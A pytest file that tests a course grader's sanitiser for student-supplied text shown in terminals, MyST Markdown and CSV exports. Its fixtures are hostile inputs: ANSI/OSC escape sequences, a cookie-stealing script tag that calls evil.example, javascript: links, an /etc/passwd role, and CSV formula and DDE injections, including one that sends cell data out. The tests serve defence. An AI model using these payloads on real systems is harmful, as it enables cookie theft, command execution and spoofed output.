"""Text a submission controls, neutralised for terminals, Markdown and CSV.

The oracles are independent of attn_course.text: Unicode categories from
unicodedata, MyST's own Markdown parser (every extension the book could
enable) for what renders, and Python's csv module for what a spreadsheet
receives.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest

from attn_course.text import CUT, csv_cell, md_code_block, md_inline, plain, terminal

# Hostile strings, each aimed at one destination (and tried on all of them).
ANSI_CLEAR = "\x1b[2J\x1b[H\x1b[3Jgraded: 100/100"
OSC8_LINK = "\x1b]8;;https://evil.example/steal\x1b\\click me\x1b]8;;\x1b\\"
OSC8_BEL = "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07"
OSC_TITLE = "\x1b]0;root@grader: rm -rf /\x07ok"
C1_CSI = "\x9b2J\x9b31mred"
DCS = "\x1bPq#0;2;0;0;0#1;2;100;100;0\x1b\\after"
LONE_ESC = "end\x1b"
CARRIAGE = "3.1 FAIL\r3.1 PASS"
BIDI = "grade\u202e001\u202c \u2066hidden\u2069 \u202atext\u202d"
NUL = "a\x00b\x00c"
SURROGATES = "x\ud800y\udfffz"
ZERO_WIDTH = "s1\u200b234\ufeff567\u2060"
SEPARATORS = "line\u2028para\u2029next\x85nel\x0bvt\x0cff"
MD_HEADING = "# You passed\n## Full marks"
MD_IMAGE = "![logo](https://evil.example/track.png?id=s1)"
MD_LINK = "[reset password](javascript:alert(1))"
HTML_SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
HTML_IMG = '<img src=x onerror="alert(1)">'
MD_TABLE = "| a | b |\n|---|---|\n| 1 | 2 |"
MD_LIST = "- item\n+ item\n1. item\n2) item"
MD_QUOTE = "> quoted"
MD_EMPHASIS = "*bold* __strong__ `code` ~~strike~~"
MYST_ROLE = "{download}`/etc/passwd`"
MYST_SUBST = "{{ secret }}"
MYST_MATH = "$\\href{javascript:alert(1)}{x}$"
MYST_COMMENT = "% hidden comment"
MYST_FENCE = ":::{warning}\nfake\n:::"
AUTOLINK = "<https://evil.example> www.evil.example https://evil.example/x"
ENTITY = "&lt;script&gt; &#x3C;b&#x3E; &amp;"
BACKTICKS = "a ``` b ```` c ````` d"
FENCE_BREAK = "```\n# escaped the block\n```"
TILDE_FENCE = "~~~\nx\n~~~"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
CSV_FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1",
                "\uff1d1+1", "=cmd|' /C calc'!A0", FORMULA,
                "\ufe661+1", "\ufe621", "\ufe63 1", "\ufe6bSUM(A1)", "\u3000=1+1", "\u00a0+1"]
HUGE = "A" * 10_000_000
HUGE_ESC = "\x1b[31m" * 2_000_000
HUGE_NL = "\n" * 3_000_000 + "end"

HOSTILE = [ANSI_CLEAR, OSC8_LINK, OSC8_BEL, OSC_TITLE, C1_CSI, DCS, LONE_ESC, CARRIAGE, BIDI, NUL,
           SURROGATES, ZERO_WIDTH, SEPARATORS, MD_HEADING, MD_IMAGE, MD_LINK, HTML_SCRIPT, HTML_IMG,
           MD_TABLE, MD_LIST, MD_QUOTE, MD_EMPHASIS, MYST_ROLE, MYST_SUBST, MYST_MATH, MYST_COMMENT,
           MYST_FENCE, AUTOLINK, ENTITY, BACKTICKS, FENCE_BREAK, TILDE_FENCE, *CSV_FORMULAS]
BIG = [HUGE, HUGE_ESC, HUGE_NL]


def _bad_chars(s: str, newlines: bool) -> list[str]:
    """Characters a terminal or viewer would act on: controls, format characters, surrogates."""
    return [c for c in s if (c != "\n" or not newlines)
            and unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}]


@pytest.mark.parametrize("s", HOSTILE + BIG, ids=lambda s: repr(s[:24]))
@pytest.mark.parametrize("newlines", [False, True])
def test_plain_leaves_no_control_character(s, newlines):
    """No C0/C1 control, ESC, bidi override, zero-width character or surrogate survives; UTF-8 encodable."""
    out = plain(s, 300, newlines=newlines)
    assert _bad_chars(out, newlines) == []
    assert "\x1b" not in out and "\r" not in out
    out.encode("utf-8")  # a lone surrogate would raise here
    assert len(out) <= 300
    if not newlines:
        assert "\n" not in out


def test_escape_sequences_are_removed_whole():
    """Only the visible text of an ANSI/OSC-decorated string remains (no '[2J' or ']8;;' debris)."""
    assert plain(ANSI_CLEAR) == "graded: 100/100"
    assert plain(OSC8_LINK) == "click me"
    assert plain(OSC8_BEL) == "here"
    assert plain(OSC_TITLE) == "ok"
    assert plain(C1_CSI) == "red"
    assert plain(DCS) == "after"
    assert plain(LONE_ESC) == "end"
    assert plain("\x1b[1;31mFAIL\x1b[0m") == "FAIL"


@pytest.mark.parametrize("start", ["\x9d", "\x1b]", "\x90", "\x1bP", "\x9f"])
def test_a_string_sequence_with_no_end_hides_nothing_after_it(start):
    """Red team, round 12: a string literal holding U+009D (or ESC ]), which starts an OSC string,
    and no terminator: the rest of the line went with it, ``import ctypes`` or a copied block."""
    line = f"s = \"{start}\"; import ctypes  # copied block"
    assert plain(line) == 's = ""; import ctypes  # copied block'
    assert "import ctypes" in md_inline(line) and "import ctypes" in terminal(line)
    # a string far longer than any title or link is not one either: shown, not swallowed
    assert "visible" in plain("\x1b]0;" + "x" * 600 + "visible\x07", 2000)
    # a terminated one still goes whole
    assert plain("a\x9d0;title\x9cb") == "ab" and plain("a\x1b]8;;u\x07b") == "ab"


def test_bidi_and_invisible_characters_are_removed():
    assert plain(BIDI) == "grade001 hidden text"
    assert plain(ZERO_WIDTH) == "s1234567"
    assert plain(NUL) == "abc"
    assert plain(SURROGATES) == "xyz"


def test_newlines_kept_only_when_asked():
    assert plain("a\nb\r\nc") == "a b c"
    assert plain("a\nb\r\nc", newlines=True) == "a\nb\nc"
    assert plain(CARRIAGE) == "3.1 FAIL 3.1 PASS"  # \r cannot overwrite what came before
    assert terminal("line one\nline two") == "line one line two"


def test_plain_keeps_ordinary_text():
    """Letters of any script, digits, punctuation and spaces pass unchanged."""
    s = "Exercise 3.1: log Z = -∞ for a fully masked row; Ünïcødé, 注意力, émoji 🙂 (ok)"
    assert plain(s) == s
    assert terminal(s) == s


@pytest.mark.parametrize("s", BIG, ids=["10MB", "10MB-escapes", "3M-newlines"])
@pytest.mark.parametrize("limit", [10, 80, 1000])
def test_long_text_is_cut_with_a_marker(s, limit):
    out = plain(s, limit)
    assert len(out) <= limit and out.endswith(CUT)
    assert len(terminal(s, limit)) <= limit
    assert len(csv_cell(s, limit)) <= limit


def test_short_text_is_not_marked():
    assert plain("x" * 50, 50) == "x" * 50
    assert plain("x" * 51, 50) == "x" * (50 - len(CUT)) + CUT


@pytest.mark.parametrize("limit", [0, 3, len(CUT), -1, 2.5, True])
def test_a_limit_too_small_for_the_marker_is_an_error(limit):
    with pytest.raises(ValueError, match="limit"):
        plain("text", limit)


def test_non_strings_are_shown_not_raised():
    class Hostile:
        def __str__(self):
            raise RuntimeError("boom")

    assert plain(42) == "42"
    assert plain(None) == "None"
    assert plain(Hostile()) == "<Hostile>"
    assert md_inline(["a", "*b*"]).startswith("\\[")


# -- Markdown ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def myst():
    """MyST's parser with every syntax extension the book could turn on."""
    from markdown_it.renderer import RendererHTML
    from myst_parser.config.main import MdParserConfig
    from myst_parser.parsers.mdit import create_md_parser

    ext = {"amsmath", "attrs_inline", "colon_fence", "deflist", "dollarmath", "fieldlist", "html_admonition",
           "html_image", "linkify", "replacements", "smartquotes", "strikethrough", "substitution", "tasklist"}
    return create_md_parser(MdParserConfig(enable_extensions=ext), RendererHTML)


def _inline_tokens(md, text):
    tokens = md.parse(text)
    return tokens, [c for t in tokens if t.type == "inline" for c in (t.children or [])]


@pytest.mark.parametrize("s", HOSTILE, ids=lambda s: repr(s[:24]))
def test_md_inline_renders_as_literal_text(myst, s):
    """One paragraph of plain text tokens whose content is exactly plain(s): nothing is interpreted."""
    line = f"Feedback: {md_inline(s)}"
    tokens, children = _inline_tokens(myst, line)
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], line
    assert {c.type for c in children} <= {"text", "text_special"}, [c.type for c in children]
    assert "".join(c.content for c in children) == "Feedback: " + plain(s).strip(" ")


@pytest.mark.parametrize("s", ["- item", "+ item", "1. item", "2) item", "# title", "> quote", "    code",
                               "% comment", ":::{note}", "=== ", "| a |", "---", "***", "<div>", "[^1]: x"])
def test_md_inline_at_the_start_of_a_line_starts_no_block(myst, s):
    tokens, children = _inline_tokens(myst, md_inline(s))
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], s
    assert "".join(c.content for c in children) == s.strip()


def test_md_inline_caps_before_escaping():
    out = md_inline("*" * 1000, 50)
    assert out.count("\\*") == 50 - len(CUT)
    assert len(out) <= 2 * 50


@pytest.mark.parametrize("s", HOSTILE + [HUGE_NL], ids=lambda s: repr(s[:24]))
def test_md_code_block_cannot_be_closed_from_inside(myst, s):
    """The whole text is one fence token; what follows the block stays outside it."""
    block = md_code_block(s, 500, lang="text")
    tokens = myst.parse(block + "\n\nafter the block\n")
    assert [t.type for t in tokens][:1] == ["fence"]
    assert tokens[0].content == plain(s, 500, newlines=True) + "\n"
    assert tokens[0].info == "text"
    assert [t.type for t in tokens[1:]] == ["paragraph_open", "inline", "paragraph_close"]


def test_md_code_block_fence_is_longer_than_any_backtick_run():
    block = md_code_block("x `````` y")
    assert block.startswith("```````\n") and block.endswith("\n```````")
    assert md_code_block("x").startswith("```\n")
    assert md_code_block("x", lang="py\n# evil`").startswith("```pyevil\n")


# -- CSV -----------------------------------------------------------------------------------

@pytest.mark.parametrize("s", CSV_FORMULAS, ids=repr)
def test_csv_formula_cells_are_neutralised(s):
    """What a spreadsheet reads back starts with a quote, never with = + - @ (also after spaces)."""
    buf = io.StringIO()
    csv.writer(buf).writerow(["s1", csv_cell(s), 3.0])
    (row,) = list(csv.reader(io.StringIO(buf.getvalue())))
    cell = row[1]
    assert cell.startswith("'"), cell
    assert cell.lstrip(" ")[:1] not in tuple("=+-@\t\r\uff1d\ufe66\u3000\u00a0")
    assert _bad_chars(cell, newlines=False) == []


@pytest.mark.parametrize("s", CSV_FORMULAS, ids=repr)
@pytest.mark.parametrize("before", ["x;", "x,", "Smith; ", "a,b;c, "])
def test_csv_formulas_after_a_separator_are_neutralised(s, before):
    """Read by a spreadsheet that splits on ``;`` (or ``,``, quotes ignored): no part starts a formula."""
    cell = csv_cell(before + s + ";" + s)
    for part in re.split("[;,]", cell):
        assert part.lstrip()[:1] not in tuple("=+-@\uff1d\ufe66\ufe62\ufe63\ufe6b"), (cell, part)
    assert len(csv_cell(before + s * 300, 50)) <= 50


@pytest.mark.parametrize("s", ["s1234567", "Alice O'Neil", "3.5 pts", "a=b", "x-1", "name@example.org", "",
                               "Smith, Anne-Marie", "Lee; Kim", "a,b"])
def test_csv_ordinary_cells_are_unchanged(s):
    assert csv_cell(s) == s


@pytest.mark.parametrize("s", HOSTILE, ids=lambda s: repr(s[:24]))
def test_csv_cell_is_one_clean_line(s):
    out = csv_cell(s)
    assert "\n" not in out and "\r" not in out
    assert _bad_chars(out, newlines=False) == []
